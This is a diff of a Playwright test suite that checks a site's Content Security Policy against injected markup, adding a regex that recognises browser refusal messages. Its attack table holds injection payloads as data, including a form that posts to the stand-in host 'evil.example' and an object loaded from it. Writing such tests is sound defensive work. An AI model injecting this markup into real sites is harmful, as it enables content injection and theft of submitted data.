@@ -1,5 +1,5 @@
 import type { Page } from '@playwright/test'
-import { expect, open, ready, test } from '../helpers/site-test'
+import { allowMessages, expect, open, ready, test } from '../helpers/site-test'
 
 // Markup that an attacker injects into a page. Each key is the directive that must refuse the markup.
 const attacks: Record<string, string> = {
@@ -13,6 +13,10 @@ const attacks: Record<string, string> = {
   'object-src': '<object data="https://evil.example/a.swf"></object>',
   'form-action': '<form id="stolen" action="https://evil.example/" method="post"></form>',
 }
+
+/** Whether a message of the browser says that it refuses something, or that a refused request has failed. */
+const isRefusal = (line: string) =>
+  /Content Security Policy|requires 'Trusted|^failed: .*(csp|net::ERR_BLOCKED)/i.test(line)
 
 /** Adds markup to the end of the served home page. */
 const inject = (page: Page, markup: string) =>
@@ -40,8 +44,7 @@ test('the content policy refuses injected scripts, styles and addresses', async 
   await expect.poll(refused).toEqual(Object.keys(attacks).toSorted())
   expect(await page.evaluate(() => 'owned' in window)).toBe(false)
   expect(foreignRequests).toEqual([])
-  // The browser logs each refusal.
-  browserMessages.length = 0
+  allowMessages(browserMessages, isRefusal)
 })
 
 test('no script can write HTML or load a script from a text', async ({ page, browserMessages }) => {
@@ -61,5 +64,5 @@ test('no script can write HTML or load a script from a text', async ({ page, bro
     })
   })
   expect(errors).toEqual(['TypeError', 'TypeError', 'TypeError'])
-  browserMessages.length = 0
+  allowMessages(browserMessages, isRefusal)
 })
